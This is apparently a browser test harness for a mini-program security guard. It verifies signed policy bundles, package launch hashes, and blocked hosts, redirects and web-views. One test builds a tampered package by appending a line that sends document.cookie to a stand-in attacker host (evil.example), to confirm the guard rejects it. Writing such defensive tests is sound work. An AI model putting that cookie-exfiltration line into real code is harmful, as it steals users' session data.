// Wires the harness: base library ← guard ← sample mini programs, and shows
// each call's outcome, who decided it, and the server's own request counts.
//
// The page's guard is created with the superapp's Ed25519 public key only
// (GET /keys): nothing in the page can sign a bundle. Before the mini
// program's code runs, the base library asks `launch` with the package's
// version and SHA-256, and runs exactly the bytes it hashed.
import { createGuard } from '/src/index.js';
import { createBaseLibrary, webViewElement } from './base-library.mjs';
import { OTHER_APP_STEPS } from './other-apps.mjs';

const APP = 'mp_demo';
/** The version mp_demo's code package declares (its manifest, in a real base library). */
const PACKAGE_VERSION = '1.0.0';
const PACKAGE_URL = '/harness/mini-program.mjs';
/** Hosts no call may reach: shown with the server's own hit counts. */
const WATCHED = [
  ['evil.example', 'another domain (direct, by redirect, web-view)'],
  ['admin.internal.superapp.example', 'internal host, reached only by redirect'],
  ['billing.internal.superapp.example', 'internal host (blocked wildcard)'],
  ['api.superapp.example', 'the superapp\'s backend (blocked)'],
  ['api.gone.example', 'the removed app\'s host'],
];
const CHAIN11_END = 'api.shop.example/chain/11/0';

const $ = (id) => document.getElementById(id);
const cell = (tr, text, cls) => { const td = document.createElement('td'); td.textContent = text; if (cls) td.className = cls; tr.append(td); return td; };
const section = (table, title) => {
  const tr = document.createElement('tr');
  tr.className = 'section';
  const td = cell(tr, title);
  td.colSpan = 5;
  $(table).append(tr);
};

const results = [];
/** One visible row: what was done, by which app, the decision, the errMsg, and who decided. */
function show(r) {
  results.push(r);
  const tr = document.createElement('tr');
  tr.className = r.ok ? 'ok' : 'denied';
  tr.dataset.label = r.label;
  const what = cell(tr, r.label);
  if (r.url) { const u = document.createElement('div'); u.className = 'url'; u.textContent = r.url; what.append(u); }
  cell(tr, r.app, 'app');
  cell(tr, r.ok ? 'allowed' : `denied: ${r.code ?? '?'}`, 'decision');
  cell(tr, r.errMsg, 'msg');
  cell(tr, r.by, 'by');
  $('calls').append(tr);
}

const hex = (buf) => [...new Uint8Array(buf)].map((b) => b.toString(16).padStart(2, '0')).join('');
const sha256Hex = async (bytes) => hex(await crypto.subtle.digest('SHA-256', bytes));

async function refreshStats() {
  const s = await (await fetch('/stats')).json();
  $('stats').textContent = '';
  // Redirect chains are many paths: one line per chain.
  const grouped = new Map();
  for (const [k, n] of Object.entries(s.net)) {
    const chain = /^(.*\/chain\/\d+\/)\d+$/.exec(k);
    const key = chain ? `${chain[1]}*` : k;
    const g = grouped.get(key) ?? { n: 0, paths: 0 };
    g.n += n; g.paths++;
    grouped.set(key, g);
  }
  for (const [k, g] of grouped) {
    const tr = document.createElement('tr');
    cell(tr, `https://${k}${g.paths > 1 ? ` (${g.paths} paths)` : ''}`);
    cell(tr, String(g.n), 'num');
    $('stats').append(tr);
  }
  for (const [k, n] of Object.entries(s.web)) {
    const tr = document.createElement('tr');
    cell(tr, `web-view https://${k}`);
    cell(tr, String(n), 'num');
    $('stats').append(tr);
  }
  $('watched').textContent = '';
  const watch = [...WATCHED.map(([h, why]) => [h, why, s.hosts[h] ?? 0]), [`${CHAIN11_END}`, 'end of the 11-hop chain', s.net[CHAIN11_END] ?? 0]];
  for (const [h, why, n] of watch) {
    const tr = document.createElement('tr');
    tr.className = n === 0 ? 'ok' : 'denied';
    tr.dataset.host = h;
    cell(tr, `https://${h}`);
    cell(tr, why, 'why');
    cell(tr, String(n), 'num');
    $('watched').append(tr);
  }
  return s;
}

/** Runs `step` against `wx`; answers the row: decision, code and who decided. */
async function runStep(label, app, wx, step, ctx) {
  const before = ctx.violations.length;
  ctx.native = null;
  const res = await new Promise((resolve) => {
    const timer = setTimeout(() => resolve({ errMsg: '(no callback)' }), 5000);
    step(wx, (r) => { clearTimeout(timer); resolve(r); });
  });
  const errMsg = res.errMsg ?? '(success)';
  const ok = !String(errMsg).includes(':fail') && errMsg !== '(no callback)';
  const pageViolation = ctx.violations.slice(before).find((v) => !v.reported);
  const nat = ctx.native;
  let code = null;
  let by = '';
  let hop = null;
  if (!ok && pageViolation) {
    code = pageViolation.code;
    by = 'bridge, in the page: never sent';
  } else if (!ok && nat && !nat.ok) {
    code = nat.code;
    hop = nat.hop;
    if (nat.hop > 0) {
      const last = nat.hops[nat.hops.length - 1];
      by = `native layer, hop ${nat.hop} → ${last.location}: never connected`;
    } else {
      by = 'native layer, first URL';
    }
  } else if (ok && nat) {
    const n = nat.hops?.length ?? 0;
    by = n > 0 ? `native layer: ${n} hop${n === 1 ? '' : 's'}, each checked, then 200` : 'bridge, then native layer';
  } else if (ok) {
    by = 'bridge';
  }
  const hops = nat?.hops?.length ?? 0;
  const r = { label, app, errMsg, ok, code, by, hop, hops, url: hops > 0 ? nat.url : undefined };
  show(r);
  return r;
}

async function main() {
  const { keys } = await (await fetch('/keys')).json();
  const guard = await createGuard({ keys });
  const bundle = await (await fetch('/bundle')).text();
  const loaded = guard.load(bundle);
  const header = JSON.parse(atob(bundle.split('.')[0].replace(/-/g, '+').replace(/_/g, '/')));
  const policy = JSON.parse(new TextDecoder().decode(Uint8Array.from(atob(bundle.split('.')[1].replace(/-/g, '+').replace(/_/g, '/')), (c) => c.charCodeAt(0))));
  $('policy').textContent = `policy: schema ${policy.schema}, version ${policy.version}, alg ${header.alg}, kid ${header.kid}; `
    + `page guard (public key only, no secret): load ${loaded.code}${loaded.message ? ` (${loaded.message})` : ''}; `
    + `blocked_hosts ${JSON.stringify(policy.blocked_hosts)}; removed: ${policy.apps.filter((a) => a.removed).map((a) => a.app_id).join(', ')}`;
  const ctx = { violations: [], native: null };
  guard.onViolation((v) => ctx.violations.push(v));
  const baseLibrary = (appId) => createBaseLibrary((m) => console.log(m), { appId, onNative: (n) => { ctx.native = n; } });

  // Launch: the base library asks before it runs a code package (contract v2 §3.5).
  section('calls', 'Launch: the base library checks the code package before running it');
  const pkg = new Uint8Array(await (await fetch(PACKAGE_URL)).arrayBuffer());
  const tampered = new Uint8Array([...pkg, ...new TextEncoder().encode('\n;fetch("https://evil.example/?c="+document.cookie);\n')]);
  const launches = [
    ['launch mp_demo 1.0.0, the released package', PACKAGE_VERSION, pkg],
    ['launch mp_demo 1.0.0, a package with one extra line', PACKAGE_VERSION, tampered],
    ['launch mp_demo 1.1.0, a version never released', '1.1.0', pkg],
  ];
  let launchOk = false;
  for (const [label, version, bytes] of launches) {
    const sha = await sha256Hex(bytes);
    const d = guard.checkLaunch(APP, { version, packageSha256: sha });
    show({ label, app: APP, errMsg: d.message, ok: d.allow, code: d.code, by: `bridge; package sha256 ${sha.slice(0, 16)}…`, launch: { version, sha } });
    if (bytes === pkg && version === PACKAGE_VERSION && d.allow) launchOk = true;
  }
  if (!launchOk) throw new Error('the released package was not allowed to launch');
  // Run exactly the bytes that were hashed and allowed.
  const mp = await import(URL.createObjectURL(new Blob([pkg], { type: 'text/javascript' })));

  const wx = guard.wrap(baseLibrary(APP), { appId: APP });
  section('calls', 'mp_demo calls (checked by the bridge in the page)');
  for (const [label, step] of mp.STEPS) await runStep(label, APP, wx, step, ctx);
  section('calls', 'Redirects: followed and checked hop by hop by the base library\'s native layer (server process, its own wasm guard)');
  for (const [label, step] of mp.REDIRECT_STEPS) await runStep(label, APP, wx, step, ctx);
  section('calls', 'Other apps: switches off (mp_open), removed (mp_gone)');
  const wxs = {};
  for (const [app, label, step] of OTHER_APP_STEPS) {
    wxs[app] ??= guard.wrap(baseLibrary(app), { appId: app });
    await runStep(label, app, wxs[app], step, ctx);
  }

  section('calls', 'web-view');
  const view = guard.webView(APP, { element: webViewElement($('webview')) });
  for (const [label, url] of mp.WEBVIEW_STEPS) {
    const d = view.navigate(url);
    show({ label, app: APP, errMsg: d.message, ok: d.allow, code: d.code, by: 'bridge, in the page' });
  }
  await new Promise((r) => { $('webview').onload = r; setTimeout(r, 2000); });

  const stats = await refreshStats();
  $('counters').textContent = JSON.stringify(guard.counters());
  window.__harness = { done: true, load: loaded, results, violations: ctx.violations.map((v) => ({ ...v })), stats, counters: guard.counters() };
  document.body.dataset.done = 'true';
}

main().catch((e) => {
  $('policy').textContent = `harness error: ${e.message}`;
  window.__harness = { done: true, error: String(e.stack ?? e) };
  document.body.dataset.done = 'true';
});
